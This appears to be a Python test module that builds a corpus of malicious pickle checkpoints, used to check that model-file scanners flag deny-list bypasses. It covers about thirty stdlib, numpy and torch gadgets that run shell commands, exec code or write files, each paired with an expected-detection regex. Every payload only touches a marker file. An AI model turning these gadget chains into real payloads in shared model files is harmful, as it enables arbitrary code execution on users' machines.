"""Pickles that call a callable no deny list names: gadgets from the standard library, numpy,
torch and its dependencies that run a command, evaluate code or write a file.

Each is an HF checkpoint whose optimizer.pt holds a real AdamW state plus one `payload` entry; under
torch.load(weights_only=False) the payload creates PWNED-<case> in the working folder (checked by
test_payloads_are_live on Python 3.11, torch 2.13, numpy 2.4). Gadgets found in public scanner
bypass reports (names picklescan, modelscan or fickling added after a report) are marked
"(reported)".

Not here: tokenize.open only reads (mode 'rb'), so it has no marker to leave; numpy.DataSource is
gone in numpy 2 (a pickle naming it fails to load), so the case names numpy.lib.npyio.DataSource.
"""

from __future__ import annotations

from tests.malicious.make_corpus import (
    MARKER,
    Call,
    G,
    dumps,
    hf_optimizer_case,
    system,
)


def sh(name: str) -> str:
    """The shell command of a case: touch PWNED-<case>."""
    return f"touch {MARKER}{name}"


def py(name: str) -> str:
    """The Python statement of a case: open('PWNED-<case>', 'w').close()."""
    return f"open('{MARKER}{name}', 'w').close()"


def py_expr(name: str) -> str:
    """An expression that creates the marker wherever builtins are reachable."""
    return f"__import__('os').system('{sh(name)}')"


def gadget(name: str, payload, tries: str, words: str, **kw) -> None:
    hf_optimizer_case(f"gadget-{name}", payload, tries, words, **kw)


# -- run a command -------------------------------------------------------------------------------

gadget("imaplib-imap4-stream",
       Call(G("imaplib", "IMAP4_stream"), (sh("gadget-imaplib-imap4-stream"),)),
       "imaplib.IMAP4_stream('touch ...'): the constructor runs Popen(cmd, shell=True) to talk "
       "to the server (reported)", r"unsafe.*imaplib\.IMAP4_stream")
gadget("uuid-get-command-stdout",
       Call(G("uuid", "_get_command_stdout"), ("touch", f"{MARKER}gadget-uuid-get-command-stdout")),
       "uuid._get_command_stdout('touch', 'PWNED-...'): the helper uuid uses to run ifconfig "
       "(reported)", r"unsafe.*uuid\._get_command_stdout")
gadget("osx-support-read-output",
       Call(G("_osx_support", "_read_output"), (sh("gadget-osx-support-read-output"),)),
       "_osx_support._read_output('touch ...'): os.system of its argument, importable on Linux "
       "too (reported)", r"unsafe.*_osx_support\._read_output")
gadget("mailcap-findmatch",
       Call(G("mailcap", "findmatch"),
            ({"text/plain": [{"view": "true", "test": sh("gadget-mailcap-findmatch")}]},
             "text/plain")),
       "mailcap.findmatch(caps, 'text/plain'): the entry's test command goes to os.system "
       "(reported)", r"unsafe.*mailcap\.findmatch")
gadget("ensurepip-run-pip",
       Call(G("ensurepip", "_run_pip"),
            (f"[]; {py('gadget-ensurepip-run-pip')}; raise SystemExit(0)",)),
       "ensurepip._run_pip(args): args is pasted into the source of a `python -c` child, which "
       "runs the injected statement and exits before pip is imported (nothing is installed)",
       r"unsafe.*ensurepip\._run_pip")
gadget("pydoc-pipepager",
       Call(G("pydoc", "pipepager"), ("", sh("gadget-pydoc-pipepager"))),
       "pydoc.pipepager('', 'touch ...'): the pager command runs through a shell",
       r"unsafe.*pydoc\.pipepager")
gadget("multiprocessing-spawnv-passfds",
       Call(G("multiprocessing.util", "spawnv_passfds"),
            (b"/bin/sh", (b"/bin/sh", b"-c", sh("gadget-multiprocessing-spawnv-passfds").encode()),
             ())),
       "multiprocessing.util.spawnv_passfds(b'/bin/sh', (..., b'-c', b'touch ...'), ()): a raw "
       "fork_exec (reported)", r"unsafe.*multiprocessing\.util\.spawnv_passfds")
gadget("torch-collect-env-run",
       Call(G("torch.utils.collect_env", "run"), (sh("gadget-torch-collect-env-run"),)),
       "torch.utils.collect_env.run('touch ...'): Popen(command, shell=True) (reported)",
       r"unsafe.*torch\.utils\.collect_env\.run")
gadget("torch-elastic-subprocess-handler",
       Call(G("torch.distributed.elastic.multiprocessing.subprocess_handler", "SubprocessHandler"),
            ("touch", (f"{MARKER}gadget-torch-elastic-subprocess-handler",), {}, None, None, 0,
             None)),
       "torch elastic's SubprocessHandler(entrypoint, args, env, ...): the constructor starts "
       "Popen((entrypoint, *args))",
       r"unsafe.*torch\.distributed\.elastic\.multiprocessing\.subprocess_handler"
       r"\.SubprocessHandler")
gadget("torch-inductor-compile-cmd",
       Call(G("torch._inductor.cpp_builder", "run_compile_cmd"),
            (sh("gadget-torch-inductor-compile-cmd"), ".")),
       "torch._inductor.cpp_builder.run_compile_cmd('touch ...', '.'): inductor's compiler "
       "launcher runs any command line", r"unsafe.*torch\._inductor\.cpp_builder\.run_compile_cmd")

# -- evaluate Python code ------------------------------------------------------------------------

gadget("doctest-debug-script",
       Call(G("doctest", "debug_script"), (py("gadget-doctest-debug-script"), True)),
       "doctest.debug_script(src, pm=True): exec(src); pdb only starts if it raises, so nothing "
       "waits for a terminal (reported)", r"unsafe.*doctest\.debug_script")
gadget("torch-fx-forward-from-src",
       Call(G("torch.fx.graph_module", "_forward_from_src"),
            (f"{py('gadget-torch-fx-forward-from-src')}\ndef forward(self):\n    return None\n",
             {})),
       "torch.fx.graph_module._forward_from_src(src, {}): exec of a GraphModule's generated "
       "source", r"unsafe.*torch\.fx\.graph_module\._forward_from_src")
gadget("torch-inductor-load-config",
       Call(G("torch._inductor.config", "load_config"),
            (dumps(system("gadget-torch-inductor-load-config")),)),
       "torch._inductor.config.load_config(bytes): inductor's config loader pickle.loads its "
       "argument, a second pickle that calls os.system", r"unsafe.*torch\._inductor\.config"
       r"\.load_config")
gadget("torch-benchmark-timer",
       Call(G("torch.utils.benchmark", "Timer.timeit"),
            (Call(G("torch.utils.benchmark", "Timer"), (py("gadget-torch-benchmark-timer"),)), 1)),
       "torch.utils.benchmark.Timer(stmt).timeit(1): protocol 4 STACK_GLOBAL of the method; the "
       "statement is compiled and run", r"unsafe.*torch\.utils\.benchmark\.Timer", protocol=4)
gadget("sympy-sympify",
       Call(G("sympy", "sympify"), (py_expr("gadget-sympy-sympify"),)),
       "sympy.sympify(\"__import__('os').system(...)\"): parsing a string is eval",
       r"unsafe.*sympy\.sympify")
gadget("mpmath-exec-alias",
       Call(G("mpmath.libmp.backend", "exec_"), (py("gadget-mpmath-exec-alias"),)),
       "mpmath.libmp.backend.exec_: builtins.exec under another module's name",
       r"unsafe.*mpmath\.libmp\.backend\.exec_")
gadget("typing-eval-type",
       Call(G("typing", "_eval_type"),
            (Call(G("typing", "ForwardRef"), (py_expr("gadget-typing-eval-type"),)), {}, {})),
       "typing._eval_type(ForwardRef(\"__import__('os').system(...)\"), {}, {}): evaluating a "
       "forward reference is eval", r"unsafe.*typing\.(_eval_type|ForwardRef)")
gadget("timeit-timeit",
       Call(G("timeit", "timeit"), (py("gadget-timeit-timeit"), "pass", G("time", "perf_counter"),
                                    1)),
       "timeit.timeit(stmt, 'pass', perf_counter, 1): the statement is compiled into the timing "
       "loop (reported)", r"unsafe.*timeit\.timeit")
gadget("bdb-run",
       Call(G("bdb", "Bdb.run"), (Call(G("bdb", "Bdb"), ()), py("gadget-bdb-run"))),
       "bdb.Bdb().run(src): the debugger base class execs without prompting (reported)",
       r"unsafe.*bdb\.Bdb", protocol=4)
gadget("dataclasses-create-fn",
       Call(G("dataclasses", "_create_fn"),
            ("f", [f"):\n  pass\n {py('gadget-dataclasses-create-fn')}\n def f("], ["pass"])),
       "dataclasses._create_fn('f', [args], ['pass']): the argument list is pasted into source "
       "that is exec'd; a line it ends at the outer level runs at once",
       r"unsafe.*dataclasses\._create_fn")
gadget("idlelib-calltip-get-entity",
       Call(G("idlelib.calltip", "get_entity"), (py_expr("gadget-idlelib-calltip-get-entity"),)),
       "idlelib.calltip.get_entity(expr): eval of an expression with sys.modules in scope "
       "(reported)", r"unsafe.*idlelib\.calltip\.get_entity")
gadget("numpy-f2py-myeval",
       Call(G("numpy.f2py.crackfortran", "myeval"), (py_expr("gadget-numpy-f2py-myeval"),)),
       "numpy.f2py.crackfortran.myeval(expr): f2py's eval of Fortran constants (what the "
       "reported getlincoef calls)",
       r"unsafe.*numpy\.f2py\.crackfortran\.myeval")
gadget("numpy-builtins-dict-get",
       Call(Call(G("builtins", "dict.get"), (G("numpy", "__builtins__"), "exec")),
            (py("gadget-numpy-builtins-dict-get"),)),
       "dict.get(numpy.__builtins__, 'exec')(src): exec fetched out of a module's __builtins__ "
       "dict, never named as a global (reported)",
       r"unsafe.*(builtins\.dict\.get|numpy\.__builtins__)", protocol=4)

# -- import code by name -------------------------------------------------------------------------

gadget("jinja2-import-string",
       Call(Call(G("jinja2.utils", "import_string"), ("os:system",)),
            (sh("gadget-jinja2-import-string"),)),
       "jinja2.utils.import_string('os:system')('touch ...'): a resolver returns os.system, a "
       "second REDUCE calls it", r"unsafe.*jinja2\.utils\.import_string")
def _stage(name: str) -> tuple[Call, str]:
    """SourceFileLoader.set_data writes stage-<case>.py (which creates the marker when run)."""
    path = f"stage-{name}.py"
    loader = Call(G("importlib.machinery", "SourceFileLoader"), ("ckpt_stage", path))
    write = Call(G("importlib.machinery", "SourceFileLoader.set_data"),
                 (loader, path, (py(name) + "\n").encode()))
    return write, path


_write, _path = _stage("gadget-importlib-source-loader")
gadget("importlib-source-loader",
       (_write, Call(G("importlib.machinery", "SourceFileLoader.load_module"),
                     (Call(G("importlib.machinery", "SourceFileLoader"),
                           ("ckpt_stage_importlib", _path)),))),
       "importlib.machinery.SourceFileLoader: set_data writes stage-<case>.py, a second loader's "
       "load_module runs it (protocol 4 STACK_GLOBALs of the methods)",
       r"unsafe.*importlib\.machinery\.SourceFileLoader\.load_module", protocol=4)
_write, _path = _stage("gadget-imp-load-source")
gadget("imp-load-source",
       (_write, Call(G("imp", "load_source"), ("ckpt_stage_imp", _path))),
       "imp.load_source(name, 'stage-<case>.py'), the file written first by "
       "SourceFileLoader.set_data", r"unsafe.*imp\.load_source", protocol=4)

# -- write files ---------------------------------------------------------------------------------

gadget("importlib-set-data",
       Call(G("importlib.machinery", "SourceFileLoader.set_data"),
            (Call(G("importlib.machinery", "SourceFileLoader"), ("m", "m")),
             f"{MARKER}gadget-importlib-set-data", b"")),
       "SourceFileLoader('m', 'm').set_data('PWNED-...', b''): the bytecode cache writer "
       "writes any path", r"unsafe.*importlib\.machinery\.SourceFileLoader\.set_data",
       protocol=4)
gadget("torch-save",
       Call(G("torch", "save"), ({}, f"{MARKER}gadget-torch-save")),
       "torch.save({}, 'PWNED-...'): a write", r"unsafe.*torch\.save")
gadget("torch-from-file",
       Call(G("torch", "from_file"), (f"{MARKER}gadget-torch-from-file", True, 1)),
       "torch.from_file('PWNED-...', True, 1): a shared mapping creates the file",
       r"unsafe.*torch\.from_file")
gadget("numpy-savetxt",
       Call(G("numpy", "savetxt"), (f"{MARKER}gadget-numpy-savetxt", [])),
       "numpy.savetxt('PWNED-...', [])", r"unsafe.*numpy\.savetxt")
gadget("numpy-memmap",
       Call(G("numpy", "memmap"), (f"{MARKER}gadget-numpy-memmap", "uint8", "w+", 0, (1,))),
       "numpy.memmap('PWNED-...', 'uint8', 'w+', 0, (1,)): a 1-byte file", r"unsafe.*numpy\.memmap")
gadget("numpy-datasource",
       Call(G("numpy.lib.npyio", "DataSource.open"),
            (Call(G("numpy.lib.npyio", "DataSource"), (f"{MARKER}gadget-numpy-datasource",)),
             "file://localhost/dev/null")),
       "numpy.lib.npyio.DataSource('PWNED-...').open('file://localhost/dev/null'): a 'URL' is "
       "copied into the cache folder PWNED-.../localhost/dev/null (numpy.DataSource itself is "
       "gone in numpy 2)", r"unsafe.*numpy\.lib\.npyio\.DataSource", protocol=4)
gadget("pyio-open",
       Call(G("_pyio", "open"), (f"{MARKER}gadget-pyio-open", "w")),
       "_pyio.open('PWNED-...', 'w'): the pure-Python io module", r"unsafe.*_pyio\.open")
gadget("sqlite3-connect",
       Call(G("sqlite3", "connect"), (f"{MARKER}gadget-sqlite3-connect",)),
       "sqlite3.connect('PWNED-...'): opening a database creates the file",
       r"unsafe.*sqlite3\.connect")
gadget("distutils-write-file",
       Call(G("distutils.file_util", "write_file"), (f"{MARKER}gadget-distutils-write-file", [])),
       "distutils.file_util.write_file('PWNED-...', []) (reported)",
       r"unsafe.*distutils\.file_util\.write_file")
